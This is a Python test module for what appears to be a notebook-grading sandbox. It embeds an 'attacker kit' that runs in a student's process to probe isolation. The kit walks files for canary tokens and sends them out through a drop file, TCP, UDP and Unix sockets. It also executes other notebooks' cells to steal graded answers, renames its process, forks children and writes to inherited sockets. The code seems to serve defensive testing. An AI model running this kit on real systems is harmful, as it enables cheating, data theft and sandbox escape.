"""The tools of an attacker: what is found is left wherever it can be seen.

The text runs in the student's process. What is put between ``@`` is filled in
by the test, as an attacker who knows the machine would.
"""

KIT = r'''
import ctypes, glob, json, os, re, socket, struct, sys, threading, time
import numpy as np

ROOT, CLASS, HOME = "@ROOT@", "@CLASS@", "@HOME@"
DROP, NAME, MARK = "@DROP@", "@NAME@", "@MARK@"
TCP, UDP, ABSTRACT = int("@TCP@"), int("@UDP@"), "@ABSTRACT@"
TOKEN = re.compile(rb"CANARY-[a-z]+-[0-9a-f]{12}")
NAMES = ("relative_error", "numerical_gradient", "numerical_gradient_array",
         "gradient_check")
STOLEN, LOOT, LEFT = {}, set(), []

def attempt(act, *arguments, **keywords):
    try:
        return act(*arguments, **keywords)
    except Exception:
        return None

def write(path, text=None, mode="a"):
    text = f"# {NAME} was-here {MARK}\n" if text is None else text
    def act():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as file:
            file.write(text)
        return True
    return attempt(act)

def leave(text):
    """Out of the sandbox by every door."""
    LEFT.append(text)
    if len(LEFT) > 20:
        return
    line = f"{NAME} {text}\n"
    def files():
        with open(os.path.join(DROP, NAME), "a") as file:
            file.write(line)
    def internet(port, kind):
        with socket.socket(socket.AF_INET, kind) as s:
            s.settimeout(0.3)
            s.connect(("127.0.0.1", port))
            s.sendall(line.encode())
    def unix(address):
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(0.3)
            s.connect(address)
            s.sendall(line.encode())
    attempt(files)
    attempt(internet, TCP, socket.SOCK_STREAM)
    attempt(internet, UDP, socket.SOCK_DGRAM)
    attempt(unix, "\0" + ABSTRACT)
    attempt(unix, os.path.join(DROP, "door"))
    print(line)

def keep(data):
    """Take note of every token in it."""
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    for token in set(TOKEN.findall(bytes(data))):
        if token.decode() not in LOOT:
            LOOT.add(token.decode())
            leave(token.decode())
    return data

def read(path, most=1 << 22):
    def act():
        with open(path, "rb") as file:
            return keep(file.read(most))
    return attempt(act) or b""

def listing(folder, most=3000):
    found = []
    for at, folders, files in os.walk(folder):
        folders[:] = [f for f in folders if f not in (".venv", "proc", "sys")]
        found += [os.path.join(at, f) for f in files]
        if len(found) > most:
            break
    return found[:most]

TRIALS = {
    "relative_error": lambda f: f(np.array([1.0]), np.array([1.1])) - 0.1 / 2.1,
    "numerical_gradient": lambda f: f(lambda x: np.sum(x**2), np.array([3.0])) - 6,
    "numerical_gradient_array": lambda f: f(
        lambda x: x**2, np.array([3.0]), np.array([2.0])) - 12,
    "gradient_check": lambda f: f(
        lambda x: np.sum(x**2), lambda x: 2 * x, np.array([3.0])),
}

def take(scope):
    """Functions that stand a trial are as good as one's own."""
    for name in NAMES:
        found = scope.get(name)
        off = attempt(lambda: float(np.max(np.abs(TRIALS[name](found)))))
        if name not in STOLEN and off is not None and off < 1e-4:
            STOLEN[name] = found

def steal(source):
    keep(source)
    if isinstance(source, bytes):
        source = source.decode("utf-8", "replace")
    scope = {"np": np, "__name__": "stolen"}
    attempt(exec, source, scope)
    take(scope)

def steal_notebook(path):
    """The answers of a notebook that is not an attack itself."""
    data = attempt(json.loads, read(path)) or {}
    cells = data.get("cells", [])
    for name in NAMES:
        for cell in cells:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == name:
                steal("import numpy as np\n" + "".join(cell["source"]))
    steal("\n".join("".join(c["source"]) for c in cells
          if c["metadata"].get("nbgrader", {}).get("grade_id") in NAMES))

libc = ctypes.CDLL(None, use_errno=True)

def marked(name=None):
    """Write the mark into this process's name, so that it is found later."""
    attempt(libc.prctl, 15, MARK.encode(), 0, 0, 0)

def forked(act, wait=False):
    """A child that does something and goes on."""
    pid = os.fork()
    if pid == 0:
        try:
            marked()
            act()
        finally:
            os._exit(0)
    if wait:
        os.waitpid(pid, 0)
    return pid

def parents():
    """The process that started this one, the one that started that, and so on."""
    found, pid = [], os.getppid()
    while pid > 0 and pid not in found:
        found.append(pid)
        status = attempt(lambda: open(f"/proc/{pid}/stat").read()) or ") x 1"
        pid = int(status.rpartition(")")[2].split()[1])
    return found

def channels():
    """Sockets that were inherited."""
    import stat
    found = []
    for fd in range(3, 256):
        status = attempt(os.fstat, fd)
        if status and stat.S_ISSOCK(status.st_mode):
            found.append(fd)
    return found

def frame(header, body=b"\x08\0\0\0\0\0\0\0{}      "):
    head = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("!IQ", len(head), len(body)) + head + body

def worker():
    """The loop that serves this process, wherever it is."""
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == "Worker" and hasattr(thing, "request"):
            return thing

def request():
    return getattr(worker(), "request", "0" * 32)

def say(content):
    for fd in channels():
        attempt(os.write, fd, content)
'''
"""Runs in a cell of its own, before all others."""
